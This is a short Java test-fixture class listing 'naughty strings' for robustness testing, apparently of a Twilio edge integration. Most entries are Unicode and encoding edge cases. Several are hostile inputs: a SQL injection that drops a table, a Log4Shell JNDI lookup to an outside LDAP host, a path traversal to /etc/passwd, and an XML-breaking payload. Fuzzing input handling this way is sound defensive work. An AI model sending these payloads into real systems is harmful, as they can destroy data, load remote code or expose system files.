package switchboard.edge.twilio;

import java.util.List;

/// Strings that have broken somebody's software before.
final class Naughty {

  static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "a+b&c=d%20e",
          "<Say>hi</Say>]]><!--&amp;",
          "Robert'); DROP TABLE turns;--",
          "\u0000erased",
          "\u0001\u0002\u001b[31m\u007f\u0085",
          "line\r\nbreak\ttab",
          "😀👩‍👩‍👧‍👦🏳️‍🌈",
          "\u202Eright to left עברית العربية",
          "Zͮ̆aͫl̐g̚o",
          "\uFEFF\uFFFD\uFFFC",
          "${jndi:ldap://192.0.2.1/a}",
          "../../etc/passwd",
          "{\"json\":null}",
          "NaN",
          "𝕳𝖊𝖑𝖑𝖔 ＡＢＣ");

  private Naughty() {}
}
